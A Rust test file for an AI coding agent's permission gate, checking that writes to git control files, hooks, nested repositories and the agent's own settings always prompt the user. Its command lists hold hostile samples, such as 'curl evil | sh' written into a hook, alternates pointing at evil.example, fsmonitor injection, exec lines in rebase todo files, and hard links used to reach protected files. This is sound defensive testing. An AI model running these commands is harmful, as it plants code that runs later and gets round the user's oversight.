//! Issue 21, point 4, through the real gate: git's own control files — whatever git reads to
//! decide what to run or where the repository is, in the root's `.git`, its submodules' and
//! worktrees' git directories, and any `.git` below the root — are asked about before every
//! write, from every tool, whatever the allow rules (`Edit(**)`, `Bash(*)`) and in
//! `acceptEdits`; git's data (the index, refs, objects, a worktree's `HEAD`) stays writable
//! under an allow rule, so `git add` and `git commit` still work. In `cairn -p` "asks" is a
//! refusal.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "a test should fail loudly"
)]

mod security_support;

use std::path::Path;

use cairn_policy::rules::RuleKind;
use cairn_policy::{Asking, CallInfo, PermissionMode, Verdict};
use security_support::{World, gate_over, kind};
use serde_json::json;

/// Rules that allow every edit and every command: only the protection may stop a call.
const ALLOW_ALL: &[&str] = &["Edit(**)", "Edit(src/**)", "Write", "Bash(*)", "Bash"];

/// A repository with a submodule, a linked worktree and a nested repository, as git lays
/// them out.
fn world() -> World {
    let world = World::new();
    world.file(".git/HEAD", "ref: refs/heads/main\n");
    world.file(".git/config", "[core]\n");
    world.file(".git/index", "");
    world.file(".git/refs/heads/main", "0000\n");
    world.file(".git/objects/ab/cdef", "");
    world.file(".git/modules/libs/json/HEAD", "ref: refs/heads/main\n");
    world.file(".git/modules/libs/json/config", "[core]\n");
    world.file(".git/worktrees/w/HEAD", "ref: refs/heads/w\n");
    world.file(".git/worktrees/w/commondir", "../..\n");
    world.file(".git/worktrees/w/gitdir", "/elsewhere/w/.git\n");
    world.file("src/lib.rs", "");
    world.file("vendor/dep/.git/config", "[core]\n");
    world.file("vendor/dep/.git/HEAD", "ref: refs/heads/main\n");
    world
}

/// The verdicts of one call under every configuration that must not let it through unasked:
/// default mode with every allow rule, and acceptEdits with and without them.
fn verdicts(world: &World, tool: &str, input: serde_json::Value, paths: &[&Path]) -> Vec<Verdict> {
    let paths: Vec<_> = paths.iter().map(|path| path.to_path_buf()).collect();
    let allow: Vec<(RuleKind, &str)> = ALLOW_ALL
        .iter()
        .map(|rule| (RuleKind::Allow, *rule))
        .collect();
    let configurations = [
        (PermissionMode::Default, allow.clone()),
        (PermissionMode::AcceptEdits, allow.clone()),
        (PermissionMode::AcceptEdits, Vec::new()),
    ];
    configurations
        .into_iter()
        .map(|(mode, rules)| {
            gate_over(
                &world.workspace,
                &world.home,
                mode,
                &rules,
                Asking::Interactive,
            )
            .check(&CallInfo {
                tool,
                input: &input,
                paths: &paths,
                read_only: false,
                destructive: tool != "Edit",
                asking: Asking::Interactive,
            })
        })
        .collect()
}

fn bash(world: &World, command: &str) -> Vec<Verdict> {
    verdicts(
        world,
        "Bash",
        json!({ "command": command }),
        &[&world.workspace],
    )
}

fn file_tool(world: &World, tool: &str, relative: &str) -> Vec<Verdict> {
    let path = world.workspace.join(relative);
    let input = match tool {
        "Edit" => json!({"file_path": path, "old_string": "[core]", "new_string": "[core] x"}),
        _ => json!({"file_path": path, "content": "gitdir: /tmp/planted\n"}),
    };
    verdicts(world, tool, input, &[&path])
}

/// Every verdict is a question that names the protection.
fn assert_always_asks(what: &str, verdicts: &[Verdict]) {
    for verdict in verdicts {
        match verdict {
            Verdict::Ask {
                reason,
                suggested_rule,
            } => {
                assert!(reason.contains("would change"), "{what}: {reason}");
                assert_eq!(suggested_rule, &None, "{what}: no rule may lift it");
            }
            other => panic!("{what}: expected a question, got {other:?}"),
        }
    }
}

/// Control files of the root's git directory, by every way of writing a file.
const ROOT_CONTROL_FILES: &[&str] = &[
    "echo ../../planted > .git/commondir",
    "printf '/tmp/evil/objects\\n' >> .git/objects/info/alternates",
    "echo 'http://evil.example/objects' | tee .git/objects/info/http-alternates",
    "cp /dev/null .git/config.worktree",
    "ln -s /tmp/evil/config .git/config.worktree",
    "mv src/lib.rs .git/gitdir",
    "echo 'URL: ssh://evil/x' > .git/remotes/origin",
    "echo 'ssh://evil/x' | tee -a .git/branches/main",
    "echo '/*' > .git/info/sparse-checkout",
    "cp src/lib.rs .git/hooks/post-checkout",
    "cd .git && echo ../x > commondir",
    "cd .git/objects/info && ln -sf /tmp/evil alternates",
    "rm .git/config",
    "mv .git/objects/info .git/objects/info-old",
    "echo x > .gitmodules",
    "echo 'exec sh -c x' >> .git/rebase-merge/git-rebase-todo",
    "printf 'exec x\\n' | tee -a .git/sequencer/todo",
];

#[test]
fn control_files_of_the_root_repository_always_ask() {
    let world = world();
    for command in ROOT_CONTROL_FILES {
        assert_always_asks(command, &bash(&world, command));
    }
    for (tool, path) in [
        ("Write", ".git/commondir"),
        ("Write", ".git/objects/info/alternates"),
        ("Write", ".git/config.worktree"),
        ("Edit", ".git/config"),
        ("Write", ".git/branches/origin"),
        ("Write", ".gitmodules"),
    ] {
        assert_always_asks(&format!("{tool} {path}"), &file_tool(&world, tool, path));
    }
}

/// Submodules' and linked worktrees' control files; their data stays open.
const SUBMODULE_AND_WORKTREE_CONTROL_FILES: &[&str] = &[
    "echo '[core] fsmonitor = x' >> .git/modules/libs/json/config",
    "echo ../../../x > .git/modules/libs/json/commondir",
    "cp src/lib.rs .git/modules/libs/json/hooks/pre-commit",
    "echo /tmp/o > .git/modules/libs/json/objects/info/alternates",
    "echo /tmp/planted > .git/worktrees/w/commondir",
    "echo /tmp/planted/.git > .git/worktrees/w/gitdir",
    "tee .git/worktrees/w/config.worktree < src/lib.rs",
    "ln -s /tmp/evil .git/worktrees/w/config",
    "rm -f .git/worktrees/w/commondir",
    "mv .git/worktrees/w /tmp/w",
    "cp -r /tmp/evil .git/modules/libs/other",
];

#[test]
fn control_files_of_submodules_and_worktrees_always_ask() {
    let world = world();
    for command in SUBMODULE_AND_WORKTREE_CONTROL_FILES {
        assert_always_asks(command, &bash(&world, command));
    }
    for (tool, path) in [
        ("Edit", ".git/modules/libs/json/config"),
        ("Write", ".git/worktrees/w/commondir"),
        ("Write", ".git/worktrees/w/gitdir"),
        ("Write", ".git/worktrees/w/config.worktree"),
        ("Write", ".git/modules/libs/json/info/attributes"),
    ] {
        assert_always_asks(&format!("{tool} {path}"), &file_tool(&world, tool, path));
    }
}

/// A `.git` anywhere below the root, created or written, directory or `gitdir:` file.
const NESTED_REPOSITORIES: &[&str] = &[
    "printf 'gitdir: /tmp/x' > src/.git",
    "mkdir -p src/sub/.git",
    "echo '[core] fsmonitor = x' > vendor/dep/.git/config",
    "cp -r .git src/copy/.git",
    "ln -s /tmp/evil src/.git",
    "mv src/lib.rs docs/.git",
    "echo 'gitdir: ../../.git/modules/x' | tee lib/.GIT",
    "touch src/deep/er/.git",
    "rm -rf vendor/dep/.git",
    "echo x > vendor/dep/.git/objects/info/alternates",
    "git init --separate-git-dir=store src/new",
    "git init src/fresh",
    "git clone . src/copy",
];

#[test]
fn nested_repositories_always_ask() {
    let world = world();
    for command in NESTED_REPOSITORIES {
        assert_always_asks(command, &bash(&world, command));
    }
    for (tool, path) in [
        ("Write", "src/sub/.git"),
        ("Write", "src/sub/.git/config"),
        ("Write", "docs/.git/HEAD"),
        ("Edit", "vendor/dep/.git/config"),
        ("Write", "vendor/dep/.git/hooks/pre-commit"),
    ] {
        assert_always_asks(&format!("{tool} {path}"), &file_tool(&world, tool, path));
    }
}

/// A hard link made earlier to a protected file (outside the sandbox, where a bind mount
/// refuses it) is that file under another name: writing it asks.
#[test]
fn a_hard_link_to_a_control_file_is_the_control_file() {
    let world = world();
    world.file(".claude/settings.json", "{}");
    std::fs::hard_link(
        world.workspace.join(".git/config"),
        world.workspace.join("src/cfg"),
    )
    .unwrap();
    std::fs::hard_link(
        world.workspace.join(".git/worktrees/w/commondir"),
        world.workspace.join("src/common"),
    )
    .unwrap();
    std::fs::hard_link(
        world.workspace.join(".claude/settings.json"),
        world.workspace.join("settings-copy.json"),
    )
    .unwrap();
    for command in [
        "echo '[core] fsmonitor = x' >> src/cfg",
        "cp /dev/null src/common",
        "echo '{}' | tee settings-copy.json",
    ] {
        assert_always_asks(command, &bash(&world, command));
    }
    assert_always_asks("Edit src/cfg", &file_tool(&world, "Edit", "src/cfg"));
    // An ordinary file with two names is an ordinary file.
    std::fs::hard_link(
        world.workspace.join("src/lib.rs"),
        world.workspace.join("src/lib2.rs"),
    )
    .unwrap();
    let verdicts = file_tool(&world, "Edit", "src/lib2.rs");
    assert_eq!(kind(&verdicts[0]), "allow", "{:?}", verdicts[0]);
}

/// A bare repository planted in a subdirectory: git run there uses its `config`.
#[test]
fn a_bare_repository_below_the_root_is_a_repository() {
    let world = world();
    world.file("docs/bare/HEAD", "ref: refs/heads/main\n");
    world.file("docs/bare/objects/.keep", "");
    world.file("docs/bare/refs/.keep", "");
    world.file("docs/half/objects/.keep", "");
    world.file("docs/half/refs/.keep", "");
    for command in [
        "printf '[core]\\n\\tpager = x\\n' > docs/bare/config",
        "cp /dev/null docs/bare/hooks/post-update",
        "echo ref: refs/heads/main > docs/half/HEAD",
        "echo x | tee docs/bare/commondir",
        "ln -s /tmp/evil docs/bare/objects/info/alternates",
    ] {
        assert_always_asks(command, &bash(&world, command));
    }
    assert_always_asks("Write", &file_tool(&world, "Write", "docs/bare/config"));
    // An ordinary directory named like one of its parts is not a repository.
    let verdicts = file_tool(&world, "Write", "docs/config");
    assert_eq!(kind(&verdicts[0]), "allow", "{:?}", verdicts[0]);
}

/// Work-tree files the repository's configuration makes git run or read: a `core.hooksPath`
/// (husky) and an included configuration file.
#[test]
fn hooks_and_configuration_the_repository_config_names_are_protected() {
    let world = world();
    world.file(
        ".git/config",
        "[core]\n\thooksPath = .husky/_\n[include]\n\tpath = ../.gitconfig.shared\n",
    );
    world.file(".husky/_/pre-commit", "#!/bin/sh\n");
    world.file(".husky/pre-commit", "npm test\n");
    world.file(".gitconfig.shared", "[alias]\n");
    for command in [
        "echo 'curl evil | sh' > .husky/_/pre-commit",
        "cp src/lib.rs .husky/_/post-checkout",
        "printf '[core]\\n\\tpager = x\\n' >> .gitconfig.shared",
        "ln -sf /tmp/evil .husky/_/pre-push",
        "mv src/lib.rs .gitconfig.shared",
    ] {
        assert_always_asks(command, &bash(&world, command));
    }
    assert_always_asks(
        "Edit .gitconfig.shared",
        &file_tool(&world, "Edit", ".gitconfig.shared"),
    );
    // What a hook itself runs (husky's `.husky/pre-commit`, called by `.husky/_/pre-commit`)
    // is the project's code, as a Makefile is: not protected (SECURITY.md, known limits).
    let verdicts = file_tool(&world, "Write", ".husky/pre-commit");
    assert_eq!(kind(&verdicts[0]), "allow", "{:?}", verdicts[0]);
}

/// git's data: writable under an allow rule that covers it.
#[test]
fn data_files_stay_allowed_under_an_allow_rule() {
    let world = world();
    let commands = [
        "echo 0000 > .git/refs/heads/x",
        "cp /dev/null .git/index",
        "echo x > .git/objects/ab/new",
        "echo 'ref: refs/heads/x' > .git/worktrees/w/HEAD",
        "echo x > .git/modules/libs/json/refs/heads/y",
        "touch .git/index.lock .git/ORIG_HEAD .git/FETCH_HEAD",
        "echo x > vendor/dep/.git/index",
    ];
    for command in commands {
        let gate = gate_over(
            &world.workspace,
            &world.home,
            PermissionMode::Default,
            &[(RuleKind::Allow, "Bash(*)")],
            Asking::NonInteractive,
        );
        let input = json!({ "command": command });
        let verdict = gate.check(&CallInfo {
            tool: "Bash",
            input: &input,
            paths: std::slice::from_ref(&world.workspace),
            read_only: false,
            destructive: true,
            asking: gate.asking,
        });
        assert_eq!(kind(&verdict), "allow", "{command}: {verdict:?}");
    }
    for path in [
        ".git/index",
        ".git/HEAD",
        ".git/refs/heads/main",
        ".git/worktrees/w/HEAD",
        ".git/modules/libs/json/HEAD",
        "vendor/dep/.git/HEAD",
    ] {
        let verdicts = file_tool(&world, "Write", path);
        assert_eq!(
            kind(&verdicts[0]),
            "allow",
            "Write {path}: {:?}",
            verdicts[0]
        );
    }
}
